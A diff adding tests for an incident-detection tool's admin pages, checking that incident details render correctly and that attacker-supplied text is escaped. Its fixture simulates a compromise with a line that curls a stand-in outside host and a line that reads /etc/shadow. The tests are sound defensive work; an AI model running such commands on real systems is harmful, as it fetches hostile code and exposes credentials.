@@ -1,0 +1,128 @@
+"""Pages: what is on them, and that nothing of an attacker is more than text."""
+
+import html
+import re
+
+import pytest
+from conftest import Play, spec
+from msgspec.structs import replace
+from support.injections import INJECTIONS
+
+from sidecar.admin import pages
+from sidecar.cli.stories import BEGIN
+from sidecar.incidents import view
+from sidecar.model import Notification
+from sidecar.storage.archive import Wanted, in_memory
+from sidecar.text import escape
+
+NOW = BEGIN + 180_000_000_000
+
+
+@pytest.fixture
+def note(play: Play) -> Notification:
+    return play(
+        spec("tini > nginx > sh", "web_shell"),
+        spec("tini > nginx > sh > curl", "network", at="1s", fields={"proc.cmdline": "curl http://203.0.113.9/k"}),
+        spec("tini > nginx > sh > cat", "credential", at="2s", fields={"fd.name": "/etc/shadow"}),
+    )[-1]
+
+
+def page(note: Notification, **more: object) -> str:
+    return pages.detail(replace(view.of(note, (), NOW), **more), NOW).decode()
+
+
+def listed(note: Notification, wanted: Wanted | None = None, total: int = 1) -> str:
+    kept = in_memory()
+    kept.put(note, step=True)
+    rows = [view.row(row, NOW) for row in kept.listed(Wanted(), NOW)[0]]
+    return pages.listing(view.Page(total, 1, 0, rows), wanted or Wanted(), "state=open", NOW).decode()
+
+
+def text_of(source: str) -> str:
+    body = source[source.index("<main") :]
+    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", body)).split())
+
+
+def test_the_page_says_what_happened_where_how_sure_and_what_to_do(note: Notification) -> None:
+    text = text_of(page(note))
+
+    for words in (
+        "Critical Open last evidence 2 min ago Full Web Application Compromise",
+        "In pod shop/app-7d9f, nginx was made to start sh",
+        "Web shell Seen at +0.000 s, 1 detection",
+        "Shell technique Not seen",
+        "curl http://203.0.113.9/k",
+        "nginx \u203a sh \u203a cat",
+        "Credentials /etc/shadow",
+        "Addresses in commands http://203.0.113.9/k",
+        "kubectl -n shop label pod app-7d9f quarantine=true",
+    ):
+        assert words in text
+
+
+def test_all_nine_next_steps_are_there_and_have_no_placeholder_left(note: Notification) -> None:
+    source = page(note)
+
+    assert [step.number for step in view.of(note).triage] == [1, 2, 3, 4, 5, 6, 7, 8, 9]
+    assert all(step.do in text_of(source) for step in view.of(note).triage)
+    assert re.findall(r"\{[a-z_]+\}", text_of(source)) == []
+
+
+def test_the_list_says_how_it_rose_and_pages_on_with_the_same_filter(note: Notification) -> None:
+    source = listed(note, Wanted(limit=1), total=2)
+
+    assert "2 incidents, 1 to 1" in text_of(source)
+    assert 'href="?state=open&amp;offset=1"' in source
+
+
+def test_missing_evidence_and_the_incident_before_are_told(note: Notification) -> None:
+    source = page(note, incomplete=True, previous="0123456789abcdef")
+
+    assert "Falco dropped events while this incident was open" in source
+    assert 'href="/incidents/0123456789abcdef"' in source
+
+
+def test_the_report_needs_nothing_beside_it_and_has_no_script(note: Notification) -> None:
+    source = pages.report(view.of(note, (), NOW), NOW).decode()
+
+    assert "<script" not in source
+    assert re.findall(r'(?:href|src|action)="(?!#|data:)', source) == []
+
+
+def test_no_page_has_inline_handlers_or_styles(note: Notification) -> None:
+    for source in (page(note), listed(note), pages.problem("400 Bad Request", "x").decode()):
+        assert re.findall(r"<[^>]+\s(?:on[a-z]+|style)=", source) == []
+
+
+def hostile(note: Notification, text: str) -> Notification:
+    where = note.where._replace(host=text, namespace=text, pod=text, container_name=text, image=text)
+    timeline = tuple(
+        (replace(one, rule=text, cmdline=text, detail=text, path=((7, text), *one.path[1:])), groups)
+        for one, groups in note.timeline
+    )
+    return replace(note, where=where, timeline=timeline, summary=text, tags=(text,), triage=((text, text),))
+
+
+@pytest.mark.parametrize("text", INJECTIONS)
+def test_what_an_attacker_wrote_is_escaped_wherever_it_stands(note: Notification, text: str) -> None:
+    usual = hostile(note, "http://usual" if re.search("(?:https?|ftp|tcp)://", text) else "usual")
+    for made in (page, listed, lambda note: pages.report(view.of(note, (), NOW), NOW).decode()):
+        source, plain = made(hostile(note, text)), made(usual)
+        assert re.findall(r"<(/?[a-z][a-z0-9]*)", source) == re.findall(r"<(/?[a-z][a-z0-9]*)", plain)
+        assert text == escape.terminal(text) or text not in html.unescape(source)
+        assert escape.html(text) in source.replace("&#34;", "&quot;").replace("&#39;", "&#x27;")
+
+
+@pytest.mark.parametrize(
+    ("seconds", "told"), [(0.04, "+0.040 s"), (59.96, "+60.0 s"), (185.0, "+3 min 5 s"), (7260.0, "+2 h 1 min")]
+)
+def test_relative_times_are_short(seconds: float, told: str) -> None:
+    assert pages.after(seconds) == told
+
+
+@pytest.mark.parametrize(
+    ("seconds", "told"),
+    [(-5, "0 s ago"), (59, "59 s ago"), (3599, "59 min ago"), (90_000, "25 h ago"), (180_000, "2 d ago")],
+)
+def test_ages_are_short(seconds: int, told: str) -> None:
+    assert pages.ago("2026-11-24T00:00:00.123456789Z", 1_795_478_400_000_000_000 + seconds * 1_000_000_000) == told
